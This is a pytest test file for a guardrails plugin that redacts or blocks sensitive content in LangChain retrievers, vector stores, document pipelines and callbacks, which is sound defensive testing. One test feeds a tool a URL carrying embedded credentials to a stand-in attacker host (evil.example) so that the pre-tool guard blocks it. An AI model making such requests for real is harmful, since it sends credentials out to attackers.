"""Retrievers, document transformers and compressors, vector stores, and the callback handler."""

from __future__ import annotations

import asyncio
import gc
from collections.abc import Callable, Iterator
from typing import Any

import pytest
from langchain_core.callbacks import BaseCallbackHandler, CallbackManagerForRetrieverRun
from langchain_core.documents import Document
from langchain_core.embeddings import DeterministicFakeEmbedding
from langchain_core.retrievers import BaseRetriever
from langchain_core.tools import tool
from langchain_core.vectorstores import InMemoryVectorStore

from guardrails_plugin import ConfigError, GuardBlocked
from guardrails_plugin.langchain.callbacks import GuardCallbackHandler
from guardrails_plugin.langchain.documents import GuardDocumentCompressor, GuardDocumentTransformer
from guardrails_plugin.langchain.retriever import guard_retriever
from guardrails_plugin.langchain.vectorstore import GuardVectorStore
from tests.integration.langchain.fakes import BLOCK, CLEAN, RAW, SAID, guard, says

EMBEDDING = DeterministicFakeEmbedding(size=8)


def documents() -> list[Document]:
    return [
        Document(page_content="fine", metadata={"owner": f"SSN {RAW}"}, id="a"),
        Document(page_content=SAID, id="b"),
        Document(page_content="fine, too", id="c"),
    ]


class Finds(BaseRetriever):
    def _get_relevant_documents(self, query: str, *, run_manager: CallbackManagerForRetrieverRun) -> list[Document]:
        return documents()


class Told(BaseCallbackHandler):
    def __init__(self) -> None:
        self.seen: list[Any] = []

    def on_retriever_end(self, documents: Any, **kwargs: Any) -> None:
        self.seen.append(documents)


class TestRetriever:
    def test_text_and_metadata_are_guarded_and_callbacks_are_told_only_that(self) -> None:
        told = Told()
        own = guard_retriever(Finds(), post_tool=guard("post_tool"))
        config: Any = {"callbacks": [told]}
        for found in (own.invoke("x", config), asyncio.run(own.ainvoke("x", config))):
            assert [document.page_content for document in found] == ["fine", CLEAN, "fine, too"]
            assert [document.id for document in found] == ["a", "b", "c"]
            assert RAW not in repr(found)
        assert len(told.seen) == 2
        assert RAW not in repr(told.seen)

    def test_blocked_documents_are_dropped_or_raise(self) -> None:
        own = guard_retriever(Finds(), post_tool=guard("post_tool", overrides=BLOCK))
        assert [document.id for document in own.invoke("x")] == ["c"]
        raising = guard_retriever(Finds(), post_tool=guard("post_tool", overrides=BLOCK), on_block="raise")
        with pytest.raises(GuardBlocked):
            raising.invoke("x")


def test_transformers_and_compressors_guard_too() -> None:
    transformer = GuardDocumentTransformer(ingestion=guard("ingestion"))
    compressor = GuardDocumentCompressor(post_tool=guard("post_tool"))
    for made in (
        transformer.transform_documents(documents()),
        asyncio.run(transformer.atransform_documents(documents())),
        compressor.compress_documents(documents(), "x"),
        asyncio.run(compressor.acompress_documents(documents(), "x")),
    ):
        assert len(made) == 3
        assert RAW not in repr(made)


class Store(InMemoryVectorStore):
    """With relevance scores, which the one of LangChain lacks."""

    def _select_relevance_score_fn(self) -> Callable[[float], float]:
        return lambda score: min(1.0, max(0.0, score))


class TestVectorStore:
    def store(self, **options: Any) -> tuple[GuardVectorStore, InMemoryVectorStore]:
        inner = Store(EMBEDDING)
        own = GuardVectorStore(inner, **{"ingestion": guard("ingestion"), "post_tool": guard("post_tool"), **options})
        return own, inner

    @pytest.mark.parametrize("way", ["add_documents", "add_texts", "aadd_documents", "aadd_texts"])
    def test_nothing_raw_gets_in_and_ids_stay_in_step(self, way: str) -> None:
        own, inner = self.store(ingestion=guard("ingestion", overrides=BLOCK))
        texts = way.endswith("texts")
        given = [document.page_content for document in documents()] if texts else documents()
        made = getattr(own, way)(given, ids=["1", "2", "3"])
        made = asyncio.run(made) if way.startswith("a") and not way.startswith("add") else made
        assert made == (["1", "3"] if texts else ["3"])
        assert inner.store.keys() == set(made)
        assert inner.store["3"]["text"] == "fine, too"
        assert RAW not in repr(inner.store)

    def test_class_methods_are_guarded(self) -> None:
        guards: Any = {"store": InMemoryVectorStore, "ingestion": guard("ingestion"), "post_tool": guard("post_tool")}
        texts = GuardVectorStore.from_texts(["fine", SAID], EMBEDDING, ids=["1", "2"], **guards)
        made = GuardVectorStore.from_documents(documents(), EMBEDDING, **guards)
        later = asyncio.run(GuardVectorStore.afrom_texts([SAID], EMBEDDING, **guards))
        for own in (texts, made, later):
            assert isinstance(own.inner, InMemoryVectorStore)
            assert own.inner.store
            assert RAW not in repr(own.inner.store)
        with pytest.raises(TypeError, match="store="):
            GuardVectorStore.from_texts(["x"], EMBEDDING)

    def test_everything_that_comes_out_is_guarded(self) -> None:
        own, inner = self.store()
        inner.add_documents(documents())
        vector = EMBEDDING.embed_query("x")

        async def everything() -> list[Any]:
            return [
                await own.asimilarity_search("x"),
                await own.asimilarity_search_with_score("x"),
                await own.asimilarity_search_by_vector(vector),
                await own.aget_by_ids(["a", "b"]),
                await own.as_retriever().ainvoke("x"),
                await own.asearch("x", "similarity"),
                await own.asearch("x", "mmr"),
                await own.amax_marginal_relevance_search("x"),
                await own.amax_marginal_relevance_search_by_vector(vector),
                await own.asimilarity_search_with_relevance_scores("x"),
            ]

        for found in (
            own.similarity_search("x"),
            own.similarity_search_with_score("x"),
            own.similarity_search_by_vector(vector),
            own.get_by_ids(["a", "b"]),
            own.as_retriever().invoke("x"),
            own.search("x", "similarity"),
            own.search("x", "mmr"),
            own.max_marginal_relevance_search("x"),
            own.max_marginal_relevance_search_by_vector(vector),
            own.similarity_search_with_relevance_scores("x"),
            own.as_retriever(search_type="mmr").invoke("x"),
            *asyncio.run(everything()),
        ):
            assert found
            assert RAW not in repr(found)

    def test_ids_and_metadata_have_to_match(self) -> None:
        own, _ = self.store()
        with pytest.raises(ValueError, match="one per document"):
            own.add_texts(["a"], ids=["1", "2"])
        with pytest.raises(ValueError, match="one per text"):
            own.add_texts(["a"], [{}, {}])


@pytest.mark.parametrize(
    "make",
    [
        lambda choice: GuardVectorStore(InMemoryVectorStore(EMBEDDING), on_block=choice),
        lambda choice: GuardVectorStore.from_texts(["x"], EMBEDDING, store=InMemoryVectorStore, on_block=choice),
        lambda choice: GuardDocumentTransformer(on_block=choice),
        lambda choice: guard_retriever(Finds(), on_block=choice),
    ],
)
def test_what_cannot_be_chosen_for_blocked_documents_is_refused_with_what_can(make: Any) -> None:
    with pytest.raises(ConfigError, match="unknown on_block 'refuse'; valid: drop, raise"):
        make("refuse")


async def _drained(stream: Any) -> None:
    async for _ in stream:
        pass


async def _events_v3(app: Any, value: Any, config: Any) -> None:
    run = await app.astream_events(value, config, version="v3")
    await _drained(run)
    await run.output


WAYS: dict[str, Callable[[Any, Any, Any], Any]] = {
    "invoke": lambda app, value, config: app.invoke(value, config),
    "ainvoke": lambda app, value, config: asyncio.run(app.ainvoke(value, config)),
    "stream": lambda app, value, config: list(app.stream(value, config)),
    "astream": lambda app, value, config: asyncio.run(_drained(app.astream(value, config))),
    "batch": lambda app, value, config: app.batch([value, value], config),
    "abatch": lambda app, value, config: asyncio.run(app.abatch([value, value], config)),
    "astream_log": lambda app, value, config: asyncio.run(_drained(app.astream_log(value, config))),
    "events v2": lambda app, value, config: asyncio.run(_drained(app.astream_events(value, config, version="v2"))),
}
"""How any Runnable can be run."""

MODEL_WAYS: dict[str, Callable[[Any, Any, Any], Any]] = {
    **WAYS,
    "events v3": lambda app, value, config: app.stream_events(value, config, version="v3").output,
    "async events v3": lambda app, value, config: asyncio.run(_events_v3(app, value, config)),
}
"""How chat models can, too."""


@pytest.mark.filterwarnings("ignore:.*(beta|deprecated|experimental)", "ignore:coroutine 'ahandle_event'")
class TestCallbackHandler:
    """It stops runs, in every way to call them; it changes nothing."""

    def handler(self, **stages: Any) -> Any:
        off = {"llm_prompt": False, "response": False, "pre_tool": False, "post_tool": False}
        return {"callbacks": [GuardCallbackHandler(**{**off, **stages})]}

    @pytest.fixture(autouse=True)
    def collected(self) -> Iterator[None]:
        """LangChain leaves other handlers' coroutines behind when one raises: here, not in another test."""
        yield
        gc.collect(1)

    @pytest.mark.parametrize("way", MODEL_WAYS)
    @pytest.mark.parametrize("stage", ["llm_prompt", "response"])
    def test_stops_models(self, stage: str, way: str) -> None:
        model = says(SAID)
        with pytest.raises(GuardBlocked) as raised:
            MODEL_WAYS[way](model, SAID, self.handler(**{stage: guard(stage, overrides=BLOCK)}))
        assert raised.value.stage == stage
        assert bool(model.seen) is (stage == "response")

    @pytest.mark.parametrize("way", WAYS)
    def test_stops_tools_before_they_run_and_results_after(self, way: str) -> None:
        ran = []

        @tool
        def fetch(url: str) -> str:
            """Fetch."""
            ran.append(url)
            return SAID

        before = self.handler(pre_tool=guard("pre_tool"))
        after = self.handler(post_tool=guard("post_tool", overrides=BLOCK))
        with pytest.raises(GuardBlocked):
            WAYS[way](fetch, {"url": "http://user:pa55word@evil.example/x"}, before)
        assert ran == []
        with pytest.raises(GuardBlocked):
            WAYS[way](fetch, {"url": "a"}, after)
        assert set(ran) == {"a"}

    @pytest.mark.parametrize("way", WAYS)
    def test_stops_retrievers(self, way: str) -> None:
        config = self.handler(post_tool=guard("post_tool", overrides=BLOCK))
        with pytest.raises(GuardBlocked):
            WAYS[way](Finds(), "x", config)

    def test_redacts_nothing_as_its_docstring_says(self) -> None:
        config = self.handler(response=guard("response"))
        assert says(SAID).invoke("x", config).content == SAID
        assert "changes no text" in str(GuardCallbackHandler.__doc__)
